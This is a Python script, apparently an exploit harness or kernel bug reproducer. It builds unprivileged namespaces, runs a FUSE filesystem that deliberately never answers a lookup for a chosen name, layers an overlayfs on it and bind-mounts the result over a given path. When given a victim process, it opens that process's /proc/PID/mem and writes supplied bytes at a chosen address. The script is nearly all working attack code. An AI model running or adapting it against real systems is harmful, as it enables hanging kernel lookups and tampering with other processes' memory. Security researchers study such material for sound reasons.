"""In namespaces of its own: a file system that never answers about a name, below one that root outside may look at, over a directory.
With a process, an address and a text it has that one's memory open, and a file of that file system which is named like memory."""
import ctypes, os, struct, sys, threading

over, never, victim = sys.argv[1], sys.argv[2].encode(), sys.argv[3:]
libc = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER, NEWNET, BIND = 0x20000, 0x10000000, 0x40000000, 4096
LOOKUP, FORGET, GETATTR, OPEN, STATFS, INIT, OPENDIR, ACCESS, BATCH_FORGET = 1, 2, 3, 14, 17, 26, 27, 34, 42
DONE = (18, 25, 29)  # release, flush, releasedir
ENOENT, ENOSYS = 2, 38
DIR, MEM = 2, 3  # nodes; 1 is the root
nodes = {b"1": DIR, b"mem": MEM}


def must(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def mount(what, at, kind, flags=0, data=""):
    must(libc.mount(what.encode(), at.encode(), kind.encode(), flags, data.encode()))


def attributes(node):  # struct fuse_attr
    return struct.pack("<6Q10I", node, 0, 0, 0, 0, 0, 0, 0, 0, 0o100644 if node == MEM else 0o40755, 2, 0, 0, 0, 4096, 0)


def answer(op, node, q):
    """The error and the text of an answer; None: there is none."""
    if op == INIT:
        return 0, struct.pack("<4I2H2I2H4I", 7, 31, 0, 0, 12, 10, 1 << 16, 1, 0, 0, 0, 0, 0, 0) + bytes(16)
    if op == GETATTR:
        return 0, struct.pack("<QII", 1000, 0, 0) + attributes(node)
    if op == STATFS:
        return 0, struct.pack("<5Q4I", 0, 0, 0, 0, 0, 4096, 255, 4096, 0) + bytes(24)
    if op in (OPEN, OPENDIR):
        return 0, struct.pack("<QII", 1, 0, 0)
    if op == ACCESS or op in DONE:
        return 0, b""
    if op != LOOKUP:
        return ENOSYS, b""
    name = q[40:].rstrip(b"\0")
    if name == never:
        print("asked", flush=True)
        return None
    if name not in nodes:
        return ENOENT, b""
    return 0, struct.pack("<4QII", nodes[name], 0, 1000, 1000, 0, 0) + attributes(nodes[name])


def serve(fd):
    while True:
        q = os.read(fd, 1 << 17)
        _, op, unique, node = struct.unpack_from("<IIQQ", q)
        said = answer(op, node, q) if op not in (FORGET, BATCH_FORGET) else None
        if said:
            os.write(fd, struct.pack("<IiQ", 16 + len(said[1]), -said[0], unique) + said[1])


memory = victim and os.open("/proc/%s/mem" % victim[0], os.O_RDWR)
ids = os.getuid(), os.getgid()
must(libc.unshare(NEWNS | NEWUSER | NEWNET))
for file, text in (("setgroups", "deny"), ("uid_map", "0 %d 1" % ids[0]), ("gid_map", "0 %d 1" % ids[1])):
    with open("/proc/self/" + file, "w") as f:
        f.write(text)
mount("none", "/tmp", "tmpfs")
for at in "/tmp/never", "/tmp/below", "/tmp/over":
    os.mkdir(at)
fd = os.open("/dev/fuse", os.O_RDWR)
mount("never", "/tmp/never", "fuse", 0, "fd=%d,rootmode=40755,user_id=0,group_id=0" % fd)
threading.Thread(target=serve, args=(fd,), daemon=True).start()
mount("over", "/tmp/over", "overlay", 0, "lowerdir=/tmp/never:/tmp/below")
mount("/tmp/over", over, "none", BIND)
hides = victim and os.open("/tmp/never/1/mem", os.O_RDONLY)
print("opened", flush=True)
sys.stdin.readline()
if victim:
    os.pwrite(memory, victim[2].encode(), int(victim[1]))
    print("written", flush=True)
    sys.stdin.readline()
